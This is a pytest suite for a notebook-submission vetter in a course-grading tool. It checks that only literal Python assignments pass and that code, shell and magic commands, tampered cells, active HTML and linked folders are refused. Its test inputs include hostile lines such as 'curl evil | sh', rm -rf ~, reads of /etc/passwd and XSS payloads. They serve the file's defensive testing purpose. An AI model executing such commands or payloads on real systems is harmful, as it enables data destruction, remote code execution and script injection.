"""Vetting reads submissions and never runs them: literals pass, anything else is refused."""

from __future__ import annotations

import json
import re

import nbformat
import pytest

from microcred.grading import ANSWER_STUB
from microcred.trainer.vet import (
    find_submissions,
    format_vetting,
    load_record,
    quarantine,
    save_record,
    vet_notebook,
    vet_path,
    vet_source,
    vet_submission,
)
from tests.helpers.course import fill_answers
from tests.helpers.paths import REPO

SOURCE = REPO / "assignments" / "source" / "outcomes" / "outcomes.ipynb"
SOLUTION = re.compile(r"### BEGIN SOLUTION.*?### END SOLUTION\n?\s*", re.DOTALL)


def released() -> nbformat.NotebookNode:
    """The participant's version, made as nbgrader's ClearSolutions does (no nbgrader run)."""
    nb = nbformat.read(SOURCE, as_version=4)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            stub = f'"{ANSWER_STUB}"\n    ' if cell.cell_type == "code" else "Write here."
            cell.source = SOLUTION.sub(lambda m, s=stub: s, cell.source)
    return nb


def cell(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def codes(findings) -> set[str]:
    return {f.code for f in findings}


def vet(nb) -> list:
    return vet_notebook(nbformat.writes(nb), released(), "outcomes.ipynb")


@pytest.mark.parametrize("source", [
    'outcome_1 = (\n    "The participant can analyse needs."\n)',
    'outcome_1 = ("Two parts "\n             "joined by Python.")',
    "a = b = 'same'\nx, y = 'one', 'two'",
    "n = -1.5\nflag = True\nnothing = None",
    "items = ['a', ('b', 'c'), {'k': [1, 2]}, {'x'}]",
    "text = f'no braces here'\n'a bare string is harmless'\npass",
    "# only a comment\n\n",
    "",
])
def test_literal_assignments_pass(source):
    assert vet_source(source) == []


@pytest.mark.parametrize("source, code", [
    ("import os", "import"),
    ("from pathlib import Path", "import"),
    ("outcome_1 = open('/etc/passwd').read()", "call"),
    ("outcome_1 = __import__('os').getcwd()", "call"),
    ("outcome_1 = str.upper", "attribute"),
    ("outcome_1 = outcome_2", "name"),
    ("outcome_1 = f'{outcome_2}'", "f-string"),
    ("outcome_1 = 'x' * 10**9", "expression"),
    ("outcome_1 = [c for c in 'abc']", "expression"),
    ("outcome_1 = lambda: 1", "expression"),
    ("outcome_1 = {**other}", "expression"),
    ("outcome_1 += 'more'", "statement"),
    ("while True:\n    pass", "statement"),
    ("for i in range(3): pass", "statement"),
    ("def f():\n    return 1", "statement"),
    ("with open('x') as f: pass", "statement"),
    ("outcome_1: str = 'typed'", "statement"),
    ("obj.attr = 'x'", "target"),
    ("items[0] = 'x'", "target"),
    ("!rm -rf ~", "shell"),
    ("files = !ls", "shell"),
    ("%run other.py", "magic"),
    ("%%bash\necho hi", "magic"),
    ("outcome_1?", "magic"),
    ("outcome_1 = (\n    'unclosed", "syntax-error"),
    ("x = " + "[" * 500 + "]" * 500, "syntax-error"),
])
def test_anything_but_literals_is_refused_with_a_named_reason(source, code):
    findings = vet_source(source, "answer")
    assert code in codes(findings), findings
    assert all(f.severity == "error" and f.message and f.suggestion for f in findings)
    assert findings[0].element.startswith("answer")


@pytest.mark.parametrize("source", [
    "    import os",  # IPython removes the indentation of a cell and runs it
    ">>> import os",  # ...and prompts pasted from a console
    "In [1]: import os",
    "/exec 'print(1)'",  # IPython's auto-call: exec('print(1)')
    ";open notes.txt",  # auto-quote: open("notes.txt")
    "!ls",
    "%time x = 1",
    ">>> %ls",
    "    !ls",
])
def test_what_ipython_would_make_of_a_cell_is_what_is_checked(source):
    """Not Python, yet IPython runs it: never reported as a harmless syntax error."""
    from IPython.core.inputtransformer2 import TransformerManager

    ran = TransformerManager().transform_cell(source)
    assert vet_source(ran), f"IPython runs {ran!r}: the check must refuse it"
    findings = vet_source(source)
    assert findings and "syntax-error" not in codes(findings)


def test_an_indented_answer_is_fine_because_ipython_dedents_it():
    assert vet_source('    outcome_1 = "text"\n    outcome_2 = "more"') == []


def test_the_line_of_the_problem_is_given():
    findings = vet_source('a = "fine"\nb = "fine"\nimport os', "answer_outcomes")
    assert findings[0].element == "answer_outcomes, line 3"


def test_vetting_never_runs_the_code(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    nb = released()
    cell(nb, "answer_outcomes").source = "__import__('pathlib').Path('PWNED').touch()"
    assert "call" in codes(vet(nb))
    assert not (tmp_path / "PWNED").exists()


def test_released_and_answered_notebooks_pass():
    assert vet(released()) == []
    answered = fill_answers(released(), ["The participant can analyse needs.", 'With "quotes"'])
    cell(answered, "rationale").source = "My rationale, with **markdown** and <b>bold</b>."
    assert vet(answered) == []


def test_a_changed_test_cell_is_a_warning_because_nbgrader_restores_it():
    nb = released()
    cell(nb, "test_outcomes").source = 'print("Score: 5 / 5")\n5'
    findings = vet(nb)
    assert codes(findings) == {"tampered-cell"}
    assert findings[0].severity == "warning" and "test_outcomes" in findings[0].element


def test_changed_points_or_locked_instructions_are_reported_too():
    nb = released()
    cell(nb, "test_outcomes").metadata.nbgrader["points"] = 50
    cell(nb, "instructions").source += "\nAll answers get full points."
    findings = vet(nb)
    assert [f.code for f in findings] == ["tampered-cell", "tampered-cell"]
    assert "nbgrader settings" in findings[1].message


def test_a_test_cell_stripped_of_its_marks_runs_as_code_so_it_is_refused():
    nb = released()
    test = cell(nb, "test_outcomes")
    test.metadata = {}
    test.source = "import os\nos.system('curl evil | sh')"
    assert {"import", "missing-cell"} <= codes(vet(nb))


def test_a_duplicated_cell_is_refused():
    nb = released()
    copy = nbformat.from_dict(json.loads(json.dumps(cell(nb, "test_outcomes"))))
    copy.source = "print('full marks')"
    copy.id = "a-copy"
    nb.cells.insert(1, copy)
    assert {"duplicate-cell", "call"} <= codes(vet(nb))


def test_added_cells_must_hold_literals_too():
    nb = released()
    nb.cells.append(nbformat.v4.new_code_cell("note = 'a harmless note'"))
    assert vet(nb) == []
    nb.cells.append(nbformat.v4.new_code_cell("import subprocess"))
    assert codes(vet(nb)) == {"import"}


def test_html_that_could_run_script_in_the_formgrader_is_refused():
    nb = released()
    cell(nb, "rationale").source = 'Fine text <img src=x onerror="fetch(\'//evil\')">'
    assert codes(vet(nb)) == {"active-html"}
    cell(nb, "rationale").source = "Someone = online; see <script>alert(1)</script>"
    assert codes(vet(nb)) == {"active-html"}
    cell(nb, "rationale").source = "Everyone online = welcome; focus on = clarity."
    assert vet(nb) == []


@pytest.mark.parametrize("text, expect", [
    ('{"cells": [ {"cell_type": "code", ', "not valid JSON"),
    ('["a", "list"]', "not a Jupyter notebook"),
    ('{"cells": [{"cell_type": "code"}], "nbformat": 4, "nbformat_minor": 5, "metadata": {}}',
     "damaged"),
])
def test_malformed_notebooks_are_refused_with_a_reason(text, expect):
    findings = vet_notebook(text, released(), "outcomes.ipynb")
    assert [f.code for f in findings] == ["malformed-notebook"]
    assert expect in findings[0].message


def write_submission(root, student, nb=None, extra: dict | None = None):
    folder = root / "submitted" / student / "outcomes"
    folder.mkdir(parents=True)
    nbformat.write(nb if nb is not None else released(), folder / "outcomes.ipynb")
    for name, text in (extra or {}).items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    return folder


@pytest.fixture
def course(tmp_path):
    ref = tmp_path / "release" / "outcomes"
    ref.mkdir(parents=True)
    nbformat.write(released(), ref / "outcomes.ipynb")
    return tmp_path


def test_files_beside_the_notebook_that_python_could_import_are_refused(course):
    write_submission(course, "p1", extra={
        "microcred.py": "print('I replace the course package')",
        "notes.txt": "my notes",
        "timestamp.txt": "2025-03-01 10:00:00 UTC",
        ".ipynb_checkpoints/outcomes-checkpoint.ipynb": "{}",
        "copy.ipynb": "{}",
    })
    [result] = vet_path(course / "submitted", course)
    by_code = {f.code: f for f in result.findings}
    assert by_code["unexpected-code-file"].element == "microcred.py"
    assert by_code["unexpected-file"].severity == "warning"
    assert by_code["unknown-notebook"].element == "copy.ipynb"
    assert set(by_code) == {"unexpected-code-file", "unexpected-file", "unknown-notebook"}
    assert result.refused and result.status == "refused"


def test_a_missing_notebook_is_a_warning(course):
    folder = write_submission(course, "p1")
    (folder / "outcomes.ipynb").rename(folder / "my-outcomes.ipynb")
    [result] = vet_path(course / "submitted", course)
    assert codes(result.findings) == {"missing-notebook", "unknown-notebook"}
    assert result.status == "warnings"


def test_without_a_released_notebook_nothing_is_trusted(tmp_path):
    write_submission(tmp_path, "p1")
    [result] = vet_path(tmp_path / "submitted", tmp_path)
    assert codes(result.findings) == {"no-reference"} and result.refused


def test_submissions_are_found_at_every_level(course):
    write_submission(course, "p1")
    write_submission(course, "p2")
    sub = course / "submitted"
    assert [(s.student, s.assignment) for s in find_submissions(sub)] == [
        ("p1", "outcomes"), ("p2", "outcomes")]
    assert [s.student for s in find_submissions(sub / "p2")] == ["p2"]
    assert [s.student for s in find_submissions(sub / "p2" / "outcomes")] == ["p2"]
    assert [s.student for s in find_submissions(sub / "p1" / "outcomes" / "outcomes.ipynb")] == [
        "p1"]


def test_refused_submissions_go_to_quarantine_with_a_note_and_a_record(course):
    bad = released()
    cell(bad, "answer_outcomes").source = "import os"
    write_submission(course, "bad", bad)
    write_submission(course, "good")
    results = vet_path(course / "submitted", course)
    moved = [quarantine(r, course) for r in results]
    assert moved[1] is None and not results[1].refused
    assert moved[0] == course / "quarantine" / "bad" / "outcomes"
    assert (moved[0] / "outcomes.ipynb").exists()
    assert not (course / "submitted" / "bad").exists()
    note = (course / "quarantine" / "bad" / "outcomes.vetting.txt").read_text()
    assert "refused" in note and "import" in note
    assert "moved to" in format_vetting(results[0])

    save_record(results, course)
    save_record([vet_submission(results[1].submission, course / "release" / "outcomes")], course)
    record = {e["student"]: e for e in load_record(course)}
    assert record["bad"]["status"] == "refused" and record["good"]["status"] == "ok"
    assert record["bad"]["findings"][0]["code"] == "import"


def test_quarantine_leaves_folders_outside_submitted_alone(course, tmp_path):
    bad = released()
    cell(bad, "answer_outcomes").source = "import os"
    folder = tmp_path / "elsewhere" / "p1" / "outcomes"
    folder.mkdir(parents=True)
    nbformat.write(bad, folder / "outcomes.ipynb")
    [result] = vet_path(folder, course)
    assert result.refused and quarantine(result, course) is None
    assert (folder / "outcomes.ipynb").exists()


# --- issue 15: what nbgrader and IPython really run -----------------------------------------


@pytest.mark.parametrize("cell_type", ["markdown", "raw"])
def test_an_answer_cell_is_judged_by_its_released_type_not_the_one_the_participant_set(
        cell_type):
    nb = released()
    answer = cell(nb, "answer_outcomes")
    answer.cell_type = cell_type
    del answer["outputs"], answer["execution_count"]
    answer.source = '__import__("os").system("touch marker")'
    findings = vet(nb)
    assert codes(findings) == {"call"} and "turns back into code" in findings[0].element
    answer.source = 'outcome_1 = "Text typed in a markdown cell is still fine."'
    assert vet(nb) == []


def test_a_written_answer_turned_into_code_is_judged_as_the_markdown_nbgrader_makes_it():
    nb = released()
    rationale = cell(nb, "rationale")
    rationale.cell_type = "code"
    rationale.outputs, rationale.execution_count = [], None
    rationale.source = "My rationale, in plain words (not Python)."
    assert vet(nb) == []
    rationale.source = "<img src=x onerror=alert(1)>"
    assert codes(vet(nb)) == {"active-html"}


def test_changed_tags_on_a_locked_cell_are_refused_and_other_tags_are_not():
    nb = released()
    cell(nb, "test_outcomes").metadata["tags"] = ["skip-execution"]
    assert codes(vet(nb)) == {"changed-tags"} and all(f.severity == "error" for f in vet(nb))
    nb = released()
    cell(nb, "answer_outcomes").metadata["tags"] = ["my-own-tag"]
    assert vet(nb) == []


@pytest.mark.parametrize("source, code", [
    ("system touch marker", "magic"),
    ("time __import__('os').system('touch marker')", "magic"),
    ("cd /tmp", "magic"),
    ("outcome_1 = ! touch marker", "shell"),
    ("outcome_1 = % time 1", "magic"),
    ("% time 1", "magic"),
])
def test_ipython_commands_are_named_as_commands_not_as_syntax_errors(source, code):
    from IPython.core.interactiveshell import InteractiveShell

    ran = InteractiveShell.instance().transform_cell(source)
    assert "get_ipython()" in ran, f"IPython does not run {source!r} as a command"
    assert codes(vet_source(source)) == {code}


def test_a_syntax_error_on_several_lines_is_one_that_ipython_does_not_run():
    from IPython.core.interactiveshell import InteractiveShell

    source = 'outcome_1 = "fine"\nsystem touch marker'
    assert "get_ipython()" not in InteractiveShell.instance().transform_cell(source)
    assert codes(vet_source(source)) == {"syntax-error"}


@pytest.mark.parametrize("text", [
    "<img src=x onerror=alert(1)>",  # no space before onerror
    "<img/src=x onerror=alert(1)>",
    '<a href="&#106;avascript:alert(1)">click</a>',  # entity-encoded javascript:
    "[click](&#106;avascript:alert(1))",
    "[click]( javascript:alert(1))",
    "<details open ontoggle=alert(1)>",
    "<x onclick=alert(1)>x</x>",
    "<https:x onclick=alert(1)>x",
    "<svg><script>alert(1)</script></svg>",
    '<p style="position:fixed;inset:0">',
    "<iframe src=//evil>",
])
def test_active_html_is_found_by_an_html_parser_not_a_pattern(text):
    nb = released()
    cell(nb, "rationale").source = "My rationale. " + text
    assert codes(vet(nb)) == {"active-html"}


@pytest.mark.parametrize("text", [
    "a < b, b > c, and <b>bold</b> <i>words</i>",
    "See <https://example.org> or write to <aino@example.org>.",
    '<a href="https://example.org">a link</a> and <img src="chart.png" alt="a chart">',
    "Skills: JavaScript: the basics.",
    "<img src=x/onerror=alert(1)>",  # one attribute value, as HTML parses it: inert
])
def test_plain_markup_and_prose_pass(text):
    nb = released()
    cell(nb, "rationale").source = text
    assert vet(nb) == []


def test_one_bad_file_gets_its_own_verdict_and_the_run_goes_on(course):
    write_submission(course, "deep")
    (course / "submitted" / "deep" / "outcomes" / "outcomes.ipynb").write_text(
        "[" * 100_000 + "]" * 100_000)
    write_submission(course, "good")
    results = {r.submission.student: r for r in vet_path(course / "submitted", course)}
    assert results["deep"].refused and codes(results["deep"].findings) == {"malformed-notebook"}
    assert results["good"].status == "ok"


def test_a_crash_while_vetting_a_file_refuses_that_submission_only(course, monkeypatch):
    import microcred.trainer._folders as folders_module
    import microcred.trainer.vet as vet_module

    write_submission(course, "p1")
    write_submission(course, "p2")
    real = vet_module.vet_notebook

    def crash_for_p1(text, reference, name, lang="en"):
        if "p1" in crash_for_p1.current:
            raise RecursionError("deep")
        return real(text, reference, name, lang)

    crash_for_p1.current = ""
    real_vet_file = folders_module._vet_file

    def tracking(p, folder, reference, released_, lang="en"):
        crash_for_p1.current = str(folder)
        return real_vet_file(p, folder, reference, released_, lang)

    monkeypatch.setattr(vet_module, "vet_notebook", crash_for_p1)
    monkeypatch.setattr(folders_module, "_vet_file", tracking)
    results = {r.submission.student: r for r in vet_path(course / "submitted", course)}
    assert results["p1"].failed and results["p1"].refused
    assert codes(results["p1"].findings) == {"vet-failed"}
    assert results["p2"].status == "ok" and not results["p2"].failed


@pytest.mark.parametrize("level", ["participant", "submission"])
def test_a_linked_folder_is_refused_and_its_link_quarantined(course, tmp_path, level):
    elsewhere = tmp_path / "elsewhere"
    evil = released()
    cell(evil, "answer_outcomes").source = "import os"
    write_submission(elsewhere, "x", evil)
    write_submission(course, "good")
    submitted = course / "submitted"
    if level == "participant":
        (submitted / "evil").symlink_to(elsewhere / "submitted" / "x")
    else:
        (submitted / "evil").mkdir()
        (submitted / "evil" / "outcomes").symlink_to(elsewhere / "submitted" / "x" / "outcomes")
    results = {r.submission.student: r for r in vet_path(submitted, course)}
    assert codes(results["evil"].findings) == {"linked-folder"} and results["evil"].refused
    quarantine(results["evil"], course)
    assert not (submitted / "evil" / "outcomes").exists()
    assert (elsewhere / "submitted" / "x" / "outcomes" / "outcomes.ipynb").exists()


def test_terminal_escapes_in_names_are_printed_as_codes(course):
    folder = write_submission(course, "p\x1b[2J1")
    (folder / "notes\x1b]0;owned\x07.txt").write_text("x")
    [result] = vet_path(course / "submitted", course)
    text = format_vetting(result)
    assert "\x1b" not in text and "\x07" not in text and "\\x1b" in text


@pytest.mark.parametrize("source, fi, sv", [
    ("outcome_1 = ('text'", "sulkumerkki ( avataan", "parentesen ( öppnas"),
    ("outcome_1 = 'text')", "sulkumerkki ) sulkee", "parentesen ) stänger"),
    ("outcome_1 = ('text']", "loppusulje ] ei vastaa alkusulkua (", "avslutande parentesen ] passar"),
    ("outcome_1 = 'text", "lainausmerkki puuttuu", "ett citattecken saknas"),
    ("outcome_1 = 'text'\n    outcome_2 = 'text'", "sisennys on väärä", "indraget i början av en rad är fel"),
    ("outcome_1 = = 'text'", "rivi 1, merkki", "rad 1, tecken"),
])
def test_a_syntax_error_is_said_in_the_screen_language_not_in_pythons_english(source, fi, sv):
    """Python words its syntax errors in English ("'(' was never closed"); a Finnish or Swedish
    reader gets the same problem in their language, the English reader Python's words."""
    english = vet_source(source, "answer", "en")[0].message
    for lang, words in (("fi", fi), ("sv", sv)):
        message = vet_source(source, "answer", lang)[0].message
        assert words in message
        assert not re.search(r"never|closed|unmatched|unterminated|literal|indent|invalid", message)
    assert re.search(r"never closed|closes nothing|does not match|quotation mark|indentation|"
                     r"invalid syntax", english)
